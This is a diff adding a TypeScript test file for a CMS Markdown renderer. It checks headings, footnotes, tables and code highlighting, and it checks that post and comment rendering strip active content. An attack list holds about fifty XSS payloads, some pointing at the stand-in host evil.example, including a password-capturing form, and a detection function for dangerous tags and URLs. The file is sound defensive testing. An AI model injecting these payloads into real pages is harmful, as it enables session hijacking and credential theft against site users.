@@ -1,0 +1,228 @@
+import fc from 'fast-check'
+import { describe, expect, test } from 'vitest'
+
+import {
+  renderCommentMarkdown,
+  renderPostMarkdown,
+} from '../../../../src/http/markdown/markdown.ts'
+
+/** What a browser would run or load, looked for in HTML that is well formed. */
+function dangers(html: string): string[] {
+  const found: string[] = []
+  for (const [tag] of html.matchAll(/<[^>]*>/g)) {
+    if (
+      /^<\/?(?:script|style|iframe|object|embed|svg|math|form|input|button|link|meta|base|template|noscript|textarea|video|audio|source|frame|applet)\b/i.test(
+        tag,
+      )
+    ) {
+      found.push(tag)
+    }
+    if (/\son\w+\s*=/i.test(tag.replace(/"[^"]*"/g, '""'))) found.push(tag)
+    if (/\sstyle\s*=/i.test(tag.replace(/"[^"]*"/g, '""'))) found.push(tag)
+    for (const [, name, value = ''] of tag.matchAll(
+      /\s(href|src|srcset|cite|action|formaction|xlink:href|data)="([^"]*)"/gi,
+    )) {
+      const url = value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase()
+      if (/^(?:javascript|vbscript|file|blob|view-source):/.test(url)) found.push(tag)
+      if (url.startsWith('data:') && !(name === 'src' && url.startsWith('data:image/'))) {
+        found.push(tag)
+      }
+    }
+  }
+  return found
+}
+
+const attacks = [
+  '<script>alert(1)</script>',
+  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" OnErRoR="alert(1)">',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="data:text/html,<script>alert(1)</script>">',
+  '<video src="javascript:alert(1)" onloadstart="alert(1)"></video>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="jav&#x09;ascript:alert(1)">x</a>',
+  '<a href=" \u0001javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
+  '[x](javascript:alert(1))',
+  '[x](javascript&#58;alert(1))',
+  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '![x](javascript:alert(1))',
+  '![x](data:text/html,<script>alert(1)</script>)',
+  '[x]: javascript:alert(1)\n\n[x]',
+  '<javascript:alert(1)>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<form action="https://evil.example"><input name=password><button>go</button></form>',
+  '<p style="background:url(javascript:alert(1));position:fixed">x</p>',
+  '<style>@import "https://evil.example/x.css";</style>',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<title><img src=x onerror=alert(1)></title>',
+  '<textarea><img src=x onerror=alert(1)></textarea>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<img """><script>alert(1)</script>">',
+  '<<script>alert(1)//<</script>',
+  '<img src="x` `<script>alert(1)</script>"` `>',
+  '<details open ontoggle=alert(1)><summary>x</summary></details>',
+  '<body onload=alert(1)>',
+  '<h1 id="x" onclick=alert(1)>y</h1>',
+  '`<img src=x onerror=alert(1)>`',
+  '```html\n<script>alert(1)</script>\n```',
+  '```"><script>alert(1)</script>\nx\n```',
+  '# <img src=x onerror=alert(1)>',
+  '|<img src=x onerror=alert(1)>|\n|-|\n|<script>alert(1)</script>|',
+  'x[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
+  '<AlertBox onclick="alert(1)">\n<script>alert(1)</script>\n</AlertBox>',
+  '<span class="hljs-x" style="position:fixed;inset:0">x</span>',
+]
+
+describe('what Markdown may become', () => {
+  test.each(attacks)('nothing in a post can act: %s', (source) => {
+    expect(dangers(renderPostMarkdown(source))).toEqual([])
+  })
+
+  test.each(attacks)('nothing in a comment can act: %s', (source) => {
+    const html = renderCommentMarkdown(source)
+    expect(dangers(html)).toEqual([])
+    expect(html).not.toMatch(/<(?:img|h[1-6]|table)\b|<[^>]* (?:class|id)=/)
+  })
+
+  test('nothing acts however pieces of attacks are put together', () => {
+    const piece = fc.oneof(
+      fc.constantFrom(...attacks),
+      fc.constantFrom(
+        '<',
+        '>',
+        '"',
+        "'",
+        '`',
+        '\n',
+        '\n\n',
+        '&#',
+        ';',
+        '\\',
+        '](',
+        '![',
+        '<!--',
+        '-->',
+      ),
+      fc.string({ maxLength: 8 }),
+    )
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
+        const source = pieces.join('')
+        expect(dangers(renderPostMarkdown(source))).toEqual([])
+        expect(dangers(renderCommentMarkdown(source))).toEqual([])
+      }),
+      { numRuns: 300 },
+    )
+  })
+})
+
+describe('a post', () => {
+  test('headings start below the title and never jump, wherever the author began', () => {
+    const html = renderPostMarkdown('### deep\n\n###### deeper\n\n# top\n\n<h4>raw</h4>\n\n## end')
+    expect([...html.matchAll(/<h(\d)/g)].map((match) => match[1])).toEqual([
+      '2',
+      '3',
+      '2',
+      '3',
+      '3',
+    ])
+  })
+
+  test('headings have ids that are unique and not those of the page around them', () => {
+    const html = renderPostMarkdown('# Main\n\n# Comments\n\n# Twice\n\n# Twice\n\n# Ünïcode ✓')
+    const ids = [...html.matchAll(/ id="([^"]*)"/g)].map((match) => match[1])
+    expect(ids).toEqual(['main-1', 'comments-1', 'twice', 'twice-1', 'ünïcode'])
+  })
+
+  test.each(['$BIGCMS', '$& and $1 and $$', "C:\\path\\n and 'quotes' “typographic” — dashes…"])(
+    'special characters come through untouched: %s',
+    (text) => {
+      const shown = renderPostMarkdown(`${text}\n\n    ${text}\n`)
+        .replaceAll('&amp;', '&')
+        .replaceAll('&#39;', "'")
+      expect(shown.split(text)).toHaveLength(3)
+    },
+  )
+
+  test('an ASCII diagram keeps every space', () => {
+    const diagram = '+---+   +---+\n| a |-->| b |\n+---+   +---+'
+    const html = renderPostMarkdown(diagram.replace(/^/gm, '    '))
+    expect(html.replaceAll('&gt;', '>')).toContain(diagram)
+  })
+
+  test('code of a known language is coloured, of an unknown one or too long a text shown plain', () => {
+    expect(renderPostMarkdown('```js\nconst a = 1\n```')).toContain('hljs-keyword')
+    expect(renderPostMarkdown('```erlang\nf(X) -> X.\n```')).toContain('hljs-')
+    expect(renderPostMarkdown('```nosuch\nconst a = 1\n```')).not.toContain('hljs-')
+    expect(renderPostMarkdown(`\`\`\`js\n${'const a = 1\n'.repeat(6_000)}\`\`\``)).not.toContain(
+      'hljs-',
+    )
+  })
+
+  test('a table scrolls by itself and its aligned cells say so without style', () => {
+    const html = renderPostMarkdown('| a | b |\n|:-:|--:|\n| 1 | 2 |')
+    expect(html).toContain('<div class="scroll" tabindex="0"><table>')
+    expect(html).toContain('<td class="to-center">1</td>')
+  })
+
+  test('task lists have no form controls', () => {
+    const html = renderPostMarkdown('- [x] done\n- [ ] open')
+    expect(html).not.toContain('<input')
+    expect(html).toContain('aria-label="done"')
+  })
+
+  test('an MDX component shows its content as Markdown, not its tag', () => {
+    const html = renderPostMarkdown(
+      'import X from \'./x\'\n\n<AlertBox level="warning">\n**hot**\n</AlertBox>\n',
+    )
+    expect(html.trim()).toBe('<p><strong>hot</strong></p>')
+  })
+
+  test('an embed becomes a link to what it would have shown', () => {
+    expect(renderPostMarkdown('<iframe src="https://video.example/1"></iframe>')).toContain(
+      '<a href="https://video.example/1" class="embed">https://video.example/1</a>',
+    )
+  })
+
+  test('images after the first wait to be scrolled to, and keep a size that was given', () => {
+    const html = renderPostMarkdown('![a](1.png) <img src="2.png" width="20" height="10">')
+    expect(html).toMatch(/<img src="1.png" alt="a" decoding="async" \/>/)
+    expect(html).toMatch(/<img src="2.png" alt="" width="20" height="10" loading="lazy"/)
+  })
+
+  test('footnotes are numbered by first use, link both ways, and may be named twice', () => {
+    const html = renderPostMarkdown('b[^b] a[^a] b[^b] none[^none]\n\n[^a]: A\n[^b]: B *b*\n')
+    expect(html).toContain('b<sup class="fn"><a href="#fn-1" id="fnref-1">1</a></sup>')
+    expect(html).toContain('<li id="fn-1">B <em>b</em> <a href="#fnref-1"')
+    expect(html).toContain('<li id="fn-2">A ')
+    expect(html).toContain('none[^none]')
+  })
+})
+
+describe('a comment', () => {
+  test("links are marked as a stranger's", () => {
+    expect(renderCommentMarkdown('[x](https://a.example) https://b.example')).toBe(
+      '<p><a href="https://a.example" rel="nofollow ugc noopener">x</a> ' +
+        '<a href="https://b.example" rel="nofollow ugc noopener">https://b.example</a></p>\n',
+    )
+  })
+
+  test('HTML is shown as it was typed, line ends are kept', () => {
+    expect(renderCommentMarkdown('if a <b> c\nd')).toBe('<p>if a &lt;b&gt; c<br />d</p>\n')
+    expect(renderCommentMarkdown('<div>\nx\n</div>')).toBe(
+      '<p>&lt;div&gt;<br />x<br />&lt;/div&gt;</p>\n',
+    )
+  })
+})
